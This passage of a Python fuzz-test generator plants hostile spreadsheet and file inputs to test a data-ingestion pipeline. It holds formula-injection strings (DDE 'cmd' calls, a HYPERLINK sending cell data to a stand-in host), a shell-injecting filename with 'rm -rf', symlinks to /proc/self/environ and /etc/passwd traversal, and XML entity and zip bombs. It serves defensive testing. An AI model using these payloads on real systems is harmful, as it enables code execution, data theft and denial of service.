            sst = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS_MAIN}">'
                   + "".join(f'<si><t xml:space="preserve">{xml_text(s)}</t></si>' for s in strings) + "</sst>")
            xml = sheet_xml([[None if isinstance(v, tuple) else v for v in row] for row in cells])
            # put the shared-string references in
            for i, row in enumerate(cells, 1):
                for j, v in enumerate(row):
                    if isinstance(v, tuple):
                        ref = f"{col_letters(j)}{i}"
                        xml = xml.replace(f'<row r="{i}">', f'<row r="{i}"><c r="{ref}" t="s"><v>{v[1]}</v></c>', 1)
            data = raw_xlsx([], sheet=xml, shared=sst)
        else:
            data = raw_xlsx(table_rows(t))
    else:
        data = render_csv(t, fmt)
    c.write(c.base(src) + os.fsencode(f"_huge{c.ext(fmt)}"), data, "huge_cell", sub)


FORMULAS = [
    f'=HYPERLINK("http://fuzz.example/{MARK_FORMULA}?"&A1,"点击")', f"+{MARK_FORMULA}", f"-{MARK_FORMULA}+1",
    f"@SUM({MARK_FORMULA})", f"=cmd|' /C calc'!A0 {MARK_FORMULA}", f"=1+1+{MARK_FORMULA}()",
    f"-2+3+cmd|' /C notepad'!'{MARK_FORMULA}'", f"@{MARK_FORMULA}", f"=DDE(\"{MARK_FORMULA}\")",
    f"+1{MARK_FORMULA}", f"={MARK_FORMULA}", f"-{MARK_FORMULA}",
]


def k_formula(c: Ctx) -> None:
    src, fmt = pick_source(c.rng), pick_fmt(c.rng)
    r = c.rng
    t = c.table(src, fmt == "xlsx")
    formulas: dict[tuple[int, int], tuple[str, str]] = {}
    n_title = len(t.titles)
    for i, row in enumerate(t.rows):
        for j in range(len(row)):
            if r.random() < 0.25:
                row[j] = r.choice(FORMULAS)
                if fmt == "xlsx" and r.random() < 0.3:
                    formulas[(n_title + 1 + i, j)] = (f'=HYPERLINK("http://fuzz.example/{MARK_FORMULA}","x")',
                                                      r.choice(FORMULAS))
    data = render_xlsx(t, formulas) if fmt == "xlsx" else render_csv(t, fmt)
    c.write(c.base(src) + os.fsencode(f"_formula{c.ext(fmt)}"), data, "formula", fmt)


CONTROLS = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x1f", "\x7f", "\x00\x00", "\r", "\x85"]


def k_control(c: Ctx) -> None:
    src, fmt = pick_source(c.rng), pick_fmt(c.rng)
    r = c.rng
    t = c.table(src, False)
    where = r.choice(["cell", "cell", "cell", "header", "title", "many"])
    sub = f"{fmt}-{where}"
    if where == "header":
        j = r.randrange(len(t.header))
        t.header[j] = t.header[j] + r.choice(CONTROLS)
    elif where == "title":
        t.titles.insert(0, ["标题" + r.choice(CONTROLS) + "单位：万元"])
    else:
        for row in t.rows:
            for j in range(len(row)):
                if where == "many" or r.random() < 0.2:
                    v = _cell_text(row[j])
                    k = r.randrange(len(v) + 1)
                    row[j] = v[:k] + r.choice(CONTROLS) + v[k:]
    if fmt == "xlsx":
        raw = r.random() < 0.3  # raw control characters in the XML: not well-formed
        data = raw_xlsx(table_rows(t), raw_controls=raw)
        sub += "-rawxml" if raw else "-escaped"
    else:
        data = render_csv(t, fmt)
    c.write(c.base(src) + os.fsencode(f"_control{c.ext(fmt)}"), data, "control", sub)


def k_swapped(c: Ctx) -> None:
    r = c.rng
    fmt = pick_fmt(r)
    xlsx = fmt == "xlsx"
    dom = c.dom
    sub = r.choice(["employment-swap", "employment-swap", "uscc-holds-id", "id-as-number"])
    if sub in ("employment-swap", "id-as-number"):
        t = c.table("employment", xlsx)
        jp, ju = t.names.index("person_id"), t.names.index("employer_uscc")
        for row in t.rows:
            pid = r.choice(c.control_ids) if c.control_ids and r.random() < 0.3 else dom.person()
            if sub == "id-as-number" and xlsx and pid[-1] != "X":
                row[ju], row[jp] = int(pid), dom.uscc()
            else:
                row[ju], row[jp] = pid, dom.uscc()
    else:
        src = r.choice(["enterprise", "tax", "registry", "employment"])
        t = c.table(src, xlsx)
        ju = t.names.index("employer_uscc" if src == "employment" else "uscc")
        for row in t.rows:
            row[ju] = r.choice([dom.person(), dom.person15(), dom.person().lower(),
                                dom.person().translate(FULLWIDTH)])
    src = t.source
    c.write(c.base(src) + os.fsencode(f"_swapped{c.ext(fmt)}"), render(t, fmt), "swapped", f"{sub}-{fmt}")


def _spaced(pid: str) -> str:
    return " ".join([pid[:6], pid[6:14], pid[14:]])


def k_id_in_name(c: Ctx) -> None:
    r = c.rng
    dom = c.dom
    src, fmt = pick_source(r), pick_fmt(r)
    t = c.table(src, fmt == "xlsx")
    where = r.choice(["name", "name", "any-cell", "title", "header-unit", "title-unit", "filename", "folder",
                      "sheet-name", "money-cell"])
    sub = f"{where}-{fmt}"

    def an_id() -> str:
        pid = dom.person()
        return r.choice([pid, pid, pid.lower(), pid.translate(FULLWIDTH), dom.person15(), f"身份证号{pid}",
                         f"{pid}号", f"张三（{pid}）", f"{pid[:6]}-{pid[6:]}"])

    name_part = ""
    folder_part = ""
    sheet_name = "Sheet1"
    if where == "name":
        cols = [j for j, n in enumerate(t.names) if n == "name"] or list(range(len(t.header)))
        for row in t.rows:
            j = r.choice(cols)
            row[j] = r.choice([f"{dom.name()}{an_id()}", an_id(), f"法人{an_id()}个体户", _spaced(dom.person())])
    elif where in ("any-cell", "money-cell"):
        for row in t.rows:
            cand = [j for j, k in enumerate(t.kinds) if (k == "money") == (where == "money-cell")] or [0]
            row[r.choice(cand)] = an_id()
    elif where == "title":
        t.titles.insert(0, [f"联系人身份证：{an_id()}"])
    elif where == "header-unit":
        cand = [j for j, k in enumerate(t.kinds) if k == "money"] or [0]
        j = r.choice(cand)
        t.header[j] = t.header[j].split("(")[0].split("（")[0] + f"({dom.person()})"
    elif where == "title-unit":
        t.titles.insert(0, [f"单位：{dom.person()}"])
    elif where == "filename":
        name_part = "_" + an_id()
    elif where == "folder":
        folder_part = "/" + dom.person()
    elif where == "sheet-name":
        sheet_name = dom.person()
    if fmt == "xlsx":
        data = raw_xlsx(table_rows(t), sheet_name=sheet_name) if where == "sheet-name" else render_xlsx(t)
    else:
        data = render_csv(t, fmt)
    rel = os.fsencode(f"{src}/fuzz{folder_part}/{c.index:05d}_idname{name_part}{c.ext(fmt)}")
    c.write(rel, data, "id_in_name", sub)


def k_odd_name(c: Ctx) -> None:
    r = c.rng
    src, fmt = pick_source(r), pick_fmt(r)
    ext = c.ext(fmt)
    i = c.index
    t = c.table(src, fmt == "xlsx")
    data = render(t, fmt)
    poison_data = c.poison.for_source(src).encode("utf-8")
    d = f"{src}/fuzz/{i:05d}"
    # (relative path bytes, expectation, poison?)
    choices: list[tuple[str, bytes, str, bool]] = [
        ("leading-space", os.fsencode(f"{d}/ 前有空格{ext}"), "listed", False),
        ("trailing-space-ext", os.fsencode(f"{d}/后有空格{ext} "), "rejected", False),
        ("trailing-space", os.fsencode(f"{d}/后有空格 {ext}"), "listed", False),
        ("many-spaces", os.fsencode(f"{d}/多   个  空格{ext}"), "listed", False),
        ("ideographic-space", os.fsencode(f"{d}/\u3000全角空格{ext}"), "listed", False),
        ("long-255", os.fsencode(f"{d}/") + ("长" * 83).encode() + os.fsencode(ext), "listed", False),
        ("long-path", os.fsencode(f"{d}/" + "/".join(["深层文件夹" * 10] * 12) + f"/x{ext}"), "listed", False),
        ("control-soh", os.fsencode(f"{d}/坏\x01名{ext}"), "rejected", True),
        ("control-newline", os.fsencode(f"{d}/坏\n名{ext}"), "rejected", True),
        ("control-cr", os.fsencode(f"{d}/坏\r名{ext}"), "rejected", True),
        ("control-tab", os.fsencode(f"{d}/坏\t名{ext}"), "rejected", True),
        ("control-esc", os.fsencode(f"{d}/\x1b[31m红{ext}"), "rejected", True),
        ("control-del", os.fsencode(f"{d}/坏\x7f名{ext}"), "rejected", True),
        ("control-folder", os.fsencode(f"{d}/坏\x02目录/x{ext}"), "rejected", True),
        ("non-utf8-gbk", os.fsencode(d) + b"/\xcb\xb0\xca\xd5" + os.fsencode(ext), "rejected", False),
        ("non-utf8-ff", os.fsencode(d) + b"/\xff\xfe" + os.fsencode(ext), "rejected", False),
        ("non-utf8-overlong", os.fsencode(d) + b"/\xc0\xae\xc0\xae" + os.fsencode(ext), "rejected", False),
        ("non-utf8-surrogate", os.fsencode(d) + b"/\xed\xa0\x80" + os.fsencode(ext), "rejected", False),
        ("non-utf8-folder", os.fsencode(d) + b"/\xd6\xd0/x" + os.fsencode(ext), "rejected", False),
        ("dotdot-inside", os.fsencode(f"{d}/a..b{ext}"), "listed", False),
        ("dotdot-end", os.fsencode(f"{d}/x{ext}.."), "rejected", False),
        ("dotdot-folder", os.fsencode(f"{d}/a..b/x{ext}"), "listed", False),
        ("dotdot-only", os.fsencode(f"{d}/..{ext}"), "ignored", True),
        ("unicode-slash", os.fsencode(f"{d}/..\u2215..\u2215etc{ext}"), "ignored", True),  # starts with "."
        ("formula-name", os.fsencode(f"{d}/=HYPERLINK({MARK_FORMULA}){ext}"), "listed", False),
        ("at-name", os.fsencode(f"{d}/@{MARK_FORMULA}{ext}"), "listed", False),
        ("html-name", os.fsencode(f"{d}/{MARK_HTML}{ext}"), "listed", False),
        ("shell-name", os.fsencode(f"{d}/$(touch x);rm -rf `id` |x {ext}"), "listed", False),
        ("quote-name", os.fsencode(f"{d}/it's \"quoted\"{ext}"), "listed", False),
        ("windows-chars", os.fsencode(f"{d}/a:b*c?d<e>f|g\\h{ext}"), "listed", False),
        ("reserved", os.fsencode(f"{d}/CON{ext}"), "listed", False),
        ("rtl-override", os.fsencode(f"{d}/\u202excsl{ext}"), "listed", False),
        ("zero-width", os.fsencode(f"{d}/零\u200b宽{ext}"), "listed", False),
        ("emoji", os.fsencode(f"{d}/📊🔥{ext}"), "listed", False),
        ("nfd", os.fsencode(f"{d}/cafe\u0301{ext}"), "listed", False),
        ("upper-ext", os.fsencode(f"{d}/upper{ext.upper()}"), "listed", False),
        ("mixed-ext", os.fsencode(f"{d}/mixed.Csv" if ext == ".csv" else f"{d}/mixed.XlSx"), "listed", False),
        ("double-ext", os.fsencode(f"{d}/double{ext}{'.xlsx' if ext == '.csv' else '.csv'}"), "listed", False),
        ("no-ext", os.fsencode(f"{d}/noext"), "rejected", False),
        ("txt-ext", os.fsencode(f"{d}/x.txt"), "rejected", False),
        ("xls-ext", os.fsencode(f"{d}/x.xls"), "rejected", False),
        ("zwsp-ext", os.fsencode(f"{d}/x{ext}\u200b"), "rejected", False),
        ("ignored-dot", os.fsencode(f"{d}/.hidden{ext}"), "ignored", True),
        ("ignored-lock", os.fsencode(f"{d}/~$lock{ext}"), "ignored", True),
        ("ignored-tmp", os.fsencode(f"{d}/x{ext}.tmp"), "ignored", True),
        ("ignored-TMP", os.fsencode(f"{d}/x{ext}.TMP"), "ignored", True),
        ("ignored-part", os.fsencode(f"{d}/x{ext}.part"), "ignored", True),
        ("ignored-crdownload", os.fsencode(f"{d}/x{ext}.crdownload"), "ignored", True),
        ("ignored-folder", os.fsencode(f"{d}/.git/x{ext}"), "ignored", True),
        ("top-level", os.fsencode(f"{i:05d}_顶层{ext}"), "rejected", True),
        ("top-level-formula", os.fsencode(f"={MARK_FORMULA}_{i:05d}{ext}"), "rejected", True),
        ("top-level-html", os.fsencode(f"{i:05d}{MARK_HTML}{ext}"), "rejected", True),
        ("unknown-folder", os.fsencode(f"其他/{i:05d}{ext}"), "rejected", True),
        ("case-folder", os.fsencode(f"{src.capitalize()}/{i:05d}{ext}"), "rejected", True),
        ("dir-named-like-file", os.fsencode(f"{d}/目录{ext}/x{ext}"), "listed", False),
    ]
    sub, rel, expect, poison = r.choice(choices)
    if sub in ("control-folder", "non-utf8-folder"):
        c.entry(os.path.dirname(rel), "odd_name", sub + "(folder)", "rejected")
        expect = "unlisted"
    if poison:
        payload = poison_data if ext == ".csv" else _poison_xlsx(c.poison.for_source(src))
        if sub.startswith("top-level") or sub in ("unknown-folder", "case-folder"):
            payload = poison_data if ext == ".csv" else _poison_xlsx(c.poison.tax)
    else:
        payload = data
    if sub in ("no-ext", "txt-ext", "xls-ext") and r.random() < 0.5:
        payload = render_csv(t, "csv-utf8")
    try:
        c.write(rel, payload, "odd_name", sub, expect, poison)
    except OSError as exc:  # a name the file system refuses (too long...)
        c.out.append(Planted(c.index, "odd_name", f"{sub}-refused-by-fs:{exc.errno}", rel, "none"))


def _poison_xlsx(text: str) -> bytes:
    rows = list(csv.reader(io.StringIO(text)))
    return raw_xlsx([list(r) for r in rows])


def k_link(c: Ctx) -> None:
    r = c.rng
    src = pick_source(r)
    d = c.base(src)
    abs_d = os.path.join(os.fsencode(c.raw), d)
    os.makedirs(os.path.dirname(abs_d), exist_ok=True)
    outside = os.fsencode(c.outside)
    sub = r.choice(["loop-self", "loop-pair", "outside-file", "outside-file-rel", "dangling", "dangling-rel",
                    "to-folder-outside", "to-folder-inside", "to-raw-root", "to-root", "to-dev-zero",
                    "to-dev-urandom", "to-proc", "to-control-file", "link-folder-with-poison", "to-fifo-outside",
                    "chain"])
    ext = r.choice([".csv", ".xlsx"])
    name = os.fsencode(f"_link_{sub}{ext}")
    link = os.path.join(abs_d + name)
    rel = d + name
    poison = False
    if sub == "loop-self":
        os.symlink(os.path.basename(link), link)
    elif sub == "loop-pair":
        other = abs_d + os.fsencode(f"_link_pair_b{ext}")
        os.symlink(os.path.basename(other), link)
        os.symlink(os.path.basename(link), other)
        c.entry(d + os.fsencode(f"_link_pair_b{ext}"), "link", sub, "rejected")
    elif sub in ("outside-file", "outside-file-rel"):
        target = os.path.join(outside, os.fsencode(f"poison_{c.index:05d}{ext}"))
        text = c.poison.for_source(src)
        with open(target, "wb") as fh:
            fh.write(text.encode("utf-8") if ext == ".csv" else _poison_xlsx(text))
        os.utime(target, (c.mtime, c.mtime))
        os.symlink(target if sub == "outside-file" else os.path.relpath(target, abs_d), link)
        poison = True
    elif sub == "dangling":
        os.symlink(os.path.join(outside, b"nowhere", os.fsencode(f"{c.index}.csv")), link)
    elif sub == "dangling-rel":
        os.symlink(b"../../../nowhere.csv", link)
    elif sub in ("to-folder-outside", "link-folder-with-poison"):
        folder = os.path.join(outside, os.fsencode(f"folder_{c.index:05d}"))
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, b"x.csv"), "wb") as fh:
            fh.write(c.poison.for_source(src).encode("utf-8"))
        link = abs_d + os.fsencode("_link_folder")
        rel = d + os.fsencode("_link_folder")
        os.symlink(folder, link)
        poison = True
    elif sub == "to-folder-inside":
        link = abs_d + b"_link_folder_in"
        rel = d + b"_link_folder_in"
        os.symlink(b"..", link)
    elif sub == "to-raw-root":
        link = abs_d + b"_link_root"
        rel = d + b"_link_root"
        os.symlink(os.fsencode(c.raw), link)
    elif sub == "to-root":
        link = abs_d + b"_link_slash"
        rel = d + b"_link_slash"
        os.symlink(b"/", link)
    elif sub == "to-dev-zero":
        os.symlink(b"/dev/zero", link)
    elif sub == "to-dev-urandom":
        os.symlink(b"/dev/urandom", link)
    elif sub == "to-proc":
        os.symlink(b"/proc/self/environ", link)
    elif sub == "to-control-file":
        target = c.batch_state.get("control_file")
        os.symlink(target or b"/nonexistent", link)
    elif sub == "to-fifo-outside":
        fifo = os.path.join(outside, os.fsencode(f"fifo_{c.index:05d}"))
        os.mkfifo(fifo)
        os.symlink(fifo, link)
    else:  # chain: a -> b -> c -> outside poison
        target = os.path.join(outside, os.fsencode(f"poison_chain_{c.index:05d}.csv"))
        with open(target, "wb") as fh:
            fh.write(c.poison.for_source(src).encode("utf-8"))
        b2 = abs_d + b"_chain_2.csv"
        b3 = abs_d + b"_chain_3.csv"
        os.symlink(target, b3)
        os.symlink(os.path.basename(b3), b2)
        os.symlink(os.path.basename(b2), link)
        c.entry(d + b"_chain_2.csv", "link", sub, "rejected")
        c.entry(d + b"_chain_3.csv", "link", sub, "rejected")
        poison = True
    c.touch(link)
    c.entry(rel, "link", sub, "rejected", poison)


def k_special(c: Ctx) -> None:
    r = c.rng
    src = pick_source(r)
    d = c.base(src)
    abs_d = os.path.join(os.fsencode(c.raw), d)
    os.makedirs(os.path.dirname(abs_d), exist_ok=True)
    sub = r.choice(["fifo-csv", "fifo-xlsx", "socket", "chardev-zero", "chardev-urandom", "blockdev",
                    "empty-folder", "folder-named-csv"])
    ext = ".xlsx" if sub == "fifo-xlsx" else ".csv"
    name = os.fsencode(f"_{sub}{ext}")
    path = abs_d + name
    rel = d + name
    if sub.startswith("fifo"):
        os.mkfifo(path)
    elif sub == "socket":
        old = os.getcwd()
        os.chdir(os.path.dirname(abs_d))
        try:
            s = socket.socket(socket.AF_UNIX)
            s.bind(os.path.basename(path))
            s.close()
        finally:
            os.chdir(old)
    elif sub.startswith("chardev") or sub == "blockdev":
        dev = {"chardev-zero": (stat.S_IFCHR, 1, 5), "chardev-urandom": (stat.S_IFCHR, 1, 9),
               "blockdev": (stat.S_IFBLK, 7, 0)}[sub]
        try:
            os.mknod(path, dev[0] | 0o600, os.makedev(dev[1], dev[2]))
        except OSError:
            os.mkfifo(path)
            sub += "-as-fifo(no-mknod)"
    elif sub == "empty-folder":
        os.makedirs(path)
        c.entry(rel, "special", sub, "unlisted")
        return
    else:
        os.makedirs(path)
        t = c.table(src, False)
        c.write(rel + b"/inner.csv", render_csv(t, "csv-utf8"), "special", sub, "listed")
        return
    c.touch(path)
    c.entry(rel, "special", sub, "rejected")


def _stream_rows(fh, n_rows: int, cells: int = 1) -> None:
    fh.write(f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS_MAIN}"><sheetData>'.encode())
    row = ("<row>" + "<c><v>1</v></c>" * cells + "</row>").encode()
    chunk = row * 10_000
    for _ in range(n_rows // 10_000):
        fh.write(chunk)
    fh.write(row * (n_rows % 10_000))
    fh.write(b"</sheetData></worksheet>")


def k_bomb(c: Ctx) -> None:
    r = c.rng
    src = pick_source(r)
    light = ["dim-rows", "dim-cols", "dim-max", "cols-r", "cols-no-r", "laughs-workbook", "laughs-shared",
             "zip-many-members", "deep-xml", "rows-real", "wrong-sheet-target", "no-sheets"]
    heavy = ["shared-bomb", "inline-bomb", "workbook-bomb", "rels-bomb", "sparse-csv", "sparse-xlsx",
             "many-rows-csv", "many-cells-xlsx"]
    pool = light + (heavy if c.heavy and c.batch_state.get("heavy", 0) < c.batch_state.get("heavy_max", 2) else [])
    sub = r.choice(pool)
    if sub in heavy:
        c.batch_state["heavy"] = c.batch_state.get("heavy", 0) + 1
    t = c.table(src, True, n_rows=3)
    rows = table_rows(t)
    mb = c.bomb_mb * 1024 * 1024
    ext = ".xlsx"
    # refused (Excel's limits) or read: for the string bombs and sparse files what counts is the peak RSS
    expect = "listed" if sub in ("shared-bomb", "inline-bomb", "sparse-xlsx") else "rejected"
    rel = c.base(src) + os.fsencode(f"_bomb_{sub}")
    if sub == "dim-rows":
        data = raw_xlsx(rows, dimension="A1:H1048577")
    elif sub == "dim-cols":
        data = raw_xlsx(rows, dimension="A1:XFE5")
    elif sub == "dim-max":
        data = raw_xlsx(rows, dimension="A1:XFD1048576")
        expect = "listed"
    elif sub == "cols-r":
        rows[-1] = rows[-1] + [None] * (16_384 - len(rows[-1])) + ["beyond"]
        data = raw_xlsx(rows)
    elif sub == "cols-no-r":
        rows[-1] = rows[-1] + ["x"] * 17_000
        data = raw_xlsx(rows, with_r=False, dimension="")
    elif sub == "laughs-workbook":
        lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
               + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
               + f']><workbook xmlns="{NS_MAIN}" xmlns:r="{NS_REL}"><x>&lol9;</x><sheets><sheet name="S" '
               'sheetId="1" r:id="rId1"/></sheets></workbook>')
        data = raw_xlsx(rows, workbook=lol)
        expect = "listed"
    elif sub == "laughs-shared":
        lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
               + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
               + f']><sst xmlns="{NS_MAIN}"><si><t>&lol9;</t></si></sst>')
        sheet = sheet_xml(rows).replace("</sheetData>", f'<row r="{len(rows) + 1}"><c r="A{len(rows) + 1}" t="s"><v>0</v></c></row></sheetData>')
        data = raw_xlsx(rows, shared=lol, sheet=sheet)
        expect = "listed"
    elif sub == "zip-many-members":
        members: dict[str, bytes | str | Callable] = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS,
                                                       "xl/workbook.xml": workbook_xml(),
                                                       "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
                                                       "xl/worksheets/sheet1.xml": sheet_xml(rows)}
        for k in range(20_000):
            members[f"xl/junk/{k}.xml"] = "<x/>"
        data = zip_members(members)
        expect = "listed"
    elif sub == "deep-xml":
        depth = 200_000
        data = raw_xlsx(rows, workbook=workbook_xml(pad="<a>" * depth + "</a>" * depth))
        expect = "listed"
    elif sub == "rows-real":
        data = raw_xlsx([], sheet=lambda fh: _stream_rows(fh, 1_100_000))
    elif sub == "wrong-sheet-target":
        rels = WORKBOOK_RELS.replace("worksheets/sheet1.xml", "../../../../etc/passwd")
        data = raw_xlsx(rows, rels=rels)
        expect = "listed"
    elif sub == "no-sheets":
        data = raw_xlsx(rows, workbook=f'<workbook xmlns="{NS_MAIN}"><sheets/></workbook>')
    elif sub == "shared-bomb":
        def sst(fh) -> None:
            fh.write(f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS_MAIN}"><si><t>'.encode())
            block = b"A" * (1 << 20)
            for _ in range(mb >> 20):
                fh.write(block)
            fh.write(b"</t></si></sst>")
        sheet = sheet_xml(rows).replace("</sheetData>", f'<row r="{len(rows) + 1}"><c r="B{len(rows) + 1}" t="s"><v>0</v></c></row></sheetData>')
        data = raw_xlsx(rows, shared=sst, sheet=sheet)
    elif sub == "inline-bomb":
        def sheet_bomb(fh) -> None:
            head = sheet_xml(rows).split("</sheetData>")[0]
            fh.write(head.encode())
            fh.write(f'<row r="{len(rows) + 1}"><c r="B{len(rows) + 1}" t="inlineStr"><is><t>'.encode())
            block = "厂".encode() * (1 << 18)
            for _ in range(mb // len(block)):
                fh.write(block)
            fh.write(b"</t></is></c></row></sheetData></worksheet>")
        data = raw_xlsx(rows, sheet=sheet_bomb)
    elif sub == "workbook-bomb":
        def wb(fh) -> None:
            fh.write(f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{NS_MAIN}" xmlns:r="{NS_REL}">'.encode())
            block = b" " * (1 << 20)
            for _ in range(mb >> 20):
                fh.write(block)
            fh.write(b'<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>')
        data = raw_xlsx(rows, workbook=wb)
        expect = "listed"
    elif sub == "rels-bomb":
        def rb(fh) -> None:
            fh.write(WORKBOOK_RELS.split("<Relationship ")[0].encode())
            block = b" " * (1 << 20)
            for _ in range(mb >> 20):
                fh.write(block)
            fh.write(("<Relationship " + WORKBOOK_RELS.split("<Relationship ", 1)[1]).encode())
        data = raw_xlsx(rows, rels=rb)
        expect = "listed"
    elif sub in ("sparse-csv", "sparse-xlsx"):
        ext = ".csv" if sub == "sparse-csv" else ".xlsx"
        path = os.path.join(os.fsencode(c.raw), rel + os.fsencode(ext))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as fh:
            fh.write(render_csv(t, "csv-utf8") if ext == ".csv" else render_xlsx(t))
            fh.truncate(2 * 1024**3)
        c.touch(path)
        c.entry(rel + os.fsencode(ext), "bomb", sub, expect if ext == ".xlsx" else "rejected")
        return
    elif sub == "many-rows-csv":
        ext = ".csv"
        header = ",".join(t.header).encode()
        data = header + b"\n" + b"x\n" * 2_000_000
        expect = "listed"
    else:  # many-cells-xlsx: under Excel's limits, 600,000 rows of junk
        data = raw_xlsx([], sheet=lambda fh: (fh.write(sheet_xml(rows).split("</sheetData>")[0].encode()),
                                               _stream_rows_tail(fh, len(rows), 600_000)))
        expect = "listed"
    c.write(rel + os.fsencode(ext), data, "bomb", sub, expect)


def _stream_rows_tail(fh, start: int, n: int) -> None:
    for k in range(n):
        i = start + 1 + k
        fh.write(f'<row r="{i}"><c r="A{i}"><v>{k}</v></c><c r="B{i}" t="inlineStr"><is><t>x</t></is></c></row>'.encode())
    fh.write(b"</sheetData></worksheet>")


def k_structure(c: Ctx) -> None:
    r = c.rng
    src, fmt = pick_source(r), pick_fmt(r)
    t = c.table(src, fmt == "xlsx")
    subs = ["empty", "bom-only", "header-only", "title-only", "blank-lines-first", "header-out-of-reach",
            "duplicate-headers", "unknown-unit-header", "unknown-unit-title", "required-missing", "wide-500",
            "wide-20000", "capped-rejects", "one-line", "cr-only", "mixed-newlines", "unbalanced-quote",
            "semicolons", "tabs", "sep-hint", "ref-case", "ref-subfolder", "ref-trailing-space", "ref-xlsx",
            "ref-unknown", "targets-garbage", "all-blank-rows", "only-totals", "header-twice", "numbers-extreme"]
    sub = r.choice(subs)
    ext = c.ext(fmt)
    expect = "listed"
    rel = c.base(src) + os.fsencode(f"_struct_{sub}{ext}")
    poison = False
    if sub == "empty":
        data = b""
    elif sub == "bom-only":
        data = b"\xef\xbb\xbf"
        rel = c.base(src) + os.fsencode(f"_struct_{sub}.csv")
    elif sub == "header-only":
        t.rows = []
        data = render(t, fmt)
    elif sub == "title-only":
        t.rows = []
        t.header = ["说明：本表无数据"]
        data = render(t, fmt)
    elif sub == "blank-lines-first":
        t.titles = [[""] for _ in range(r.choice([5, 40, 49]))]
        data = render(t, fmt)
    elif sub == "header-out-of-reach":
        t.titles = [[f"说明第{k}行"] for k in range(60)]
        data = render(t, fmt)
    elif sub == "duplicate-headers":
        j = r.randrange(len(t.header))
        t.header.append(t.header[j])
        for row in t.rows:
            row.append(row[j])
        data = render(t, fmt)
    elif sub == "unknown-unit-header":
        cand = [j for j, k in enumerate(t.kinds) if k == "money"] or [0]
        j = r.choice(cand)
        t.header[j] = re.sub(r"[(（].*", "", t.header[j]) + r.choice(["(美元)", "（吨）", "(万)", "()", "(元)(元)"])
        data = render(t, fmt)
    elif sub == "unknown-unit-title":
        t.titles = [["金额单位：美元"]]
        data = render(t, fmt)
    elif sub == "required-missing":
        from schemas.columns import SOURCES as SPECS

        req = SPECS[src].required
        j = next(k for k, n in enumerate(t.names) if n in req)
        del t.header[j], t.kinds[j], t.names[j]
        for row in t.rows:
            del row[j]
        data = render(t, fmt)
    elif sub in ("wide-500", "wide-20000"):
        n = 500 if sub == "wide-500" else 20_000
        t.header += [f"附加列{k}" for k in range(n)]
        for row in t.rows[:3]:
            row += ["1"] * n
        t.rows = t.rows[:3]
        data = render_csv(t, "csv-utf8") if fmt != "xlsx" or n > 16_000 else render(t, fmt)
        if n > 16_000 and fmt == "xlsx":
            rel = c.base(src) + os.fsencode(f"_struct_{sub}.csv")
    elif sub == "capped-rejects":
        row0 = t.rows[0]
        jk = next(j for j, n in enumerate(t.names) if n in ("uscc", "employer_uscc"))
        bad = list(row0)
        bad[jk] = "NOTAUSCC"
        t.rows = [list(bad) for _ in range(30_000)]
        data = render_csv(t, "csv-utf8")
        rel = c.base(src) + os.fsencode(f"_struct_{sub}.csv")
    elif sub == "one-line":
        data = table_to_text(t).replace("\n", "").encode("utf-8")
        rel = c.base(src) + os.fsencode(f"_struct_{sub}.csv")
    elif sub == "cr-only":
        data = render_csv(t, "csv-utf8", newline="\r")
        rel = c.base(src) + os.fsencode(f"_struct_{sub}.csv")
    elif sub == "mixed-newlines":
        text = table_to_text(t)
        data = "".join(ch if ch != "\n" else r.choice(["\n", "\r\n", "\r", "\n\n"]) for ch in text).encode()
        rel = c.base(src) + os.fsencode(f"_struct_{sub}.csv")
    elif sub == "unbalanced-quote":
        text = table_to_text(t)
        k = text.find("\n") + 1
        data = (text[:k] + '"' + text[k:]).encode()
        rel = c.base(src) + os.fsencode(f"_struct_{sub}.csv")
    elif sub == "semicolons":
        data = table_to_text(t).replace(",", ";").encode()
        rel = c.base(src) + os.fsencode(f"_struct_{sub}.csv")
    elif sub == "tabs":
        data = table_to_text(t).replace(",", "\t").encode()
        rel = c.base(src) + os.fsencode(f"_struct_{sub}.csv")
    elif sub == "sep-hint":
        data = ("sep=,\n" + table_to_text(t)).encode()
        rel = c.base(src) + os.fsencode(f"_struct_{sub}.csv")
    elif sub.startswith("ref-") or sub == "targets-garbage":
        name = {"ref-case": r.choice(["Towns.csv", "TOWNS.CSV", "towns.CSV", "Specialty_Towns.csv"]),
                "ref-subfolder": f"sub{c.index:05d}/towns.csv",
                "ref-trailing-space": r.choice(["towns.csv ", " towns.csv", "towns .csv", "towns.csv\u200b"]),
                "ref-xlsx": "towns.xlsx", "ref-unknown": f"towns_{c.index:05d}.csv",
                "targets-garbage": "targets.csv"}[sub]
        if sub == "targets-garbage":
            if c.batch_state.get("targets"):
                name = f"sub{c.index:05d}/targets.csv"
            c.batch_state["targets"] = True
        if name.startswith("Towns") or name in ("TOWNS.CSV",):
            pass
        rel = os.fsencode(f"reference/{name}")
        if os.path.lexists(os.path.join(os.fsencode(c.raw), rel)):
            rel = os.fsencode(f"reference/sub{c.index:05d}/{name}")
        if sub == "targets-garbage":
            rows_t = [["level", "id", "year", "indicator", "target"]]
            for _ in range(20):
                rows_t.append([r.choice(["town", "乡镇", "专业镇", "x", ""]), r.choice(c.dom.towns + ["", "x"]),
                               str(HOSTILE_YEAR), r.choice(["tax_total", "insured_persons", "enterprises", "?"]),
                               r.choice(["100", "-1", "nan", "inf", "1e308", "x", ""])])
            data = "\n".join(",".join(x) for x in rows_t).encode()
            expect = "listed"
        else:
            poison = True
            data = (c.poison.specialty if "Specialty" in name else c.poison.towns).encode("utf-8")
            if name.endswith(".xlsx"):
                data = _poison_xlsx(c.poison.towns)
            expect = "rejected"
